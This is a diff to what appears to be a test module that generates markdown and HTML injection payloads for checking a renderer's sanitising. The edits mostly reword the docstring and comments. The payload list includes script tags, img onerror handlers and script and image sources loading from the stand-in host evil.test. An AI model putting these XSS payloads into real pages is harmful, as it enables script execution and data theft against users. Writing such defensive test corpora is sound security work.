@@ -1,7 +1,7 @@
-"""Markdown that tries to get out of its answer: payloads, and the places where each may stand.
+"""Markdown that attacks the page around its answer: payloads, and the places for each.
 
-The law: all is combined here, from parts, in the same order each time. A payload that gets through
-calls ``hit(1)``, asks for something from FOREIGN or from /secret, or changes the element OUTSIDE.
+The law: everything is combined from parts here, in the same order each time. A payload that
+succeeds calls ``hit(1)``, sends a request to FOREIGN or to /secret, or changes the element OUTSIDE.
 """
 
 import random
@@ -12,10 +12,10 @@ from urllib.parse import quote
 FOREIGN: Final = "evil.test"
 OUTSIDE: Final = "outside"
 IMAGES: Final = "img.example"
-"""The one host that images may come from, where they may."""
+"""The only host that images may come from, if they may be shown."""
 
 HTML: Final = (
-    # What runs or loads by itself.
+    # Elements that run or load something by themselves.
     "<script>hit(1)</script>", "<ScRiPt/x>hit(1)</sCrIpT >",
     "<script src=//evil.test/s></script>", "<img src=x: onerror=hit(1)>",
     "<img src=x: onerror=alert(1)>", "<img/src=x:/onerror=hit(1)//", "<img src=//evil.test/i>",
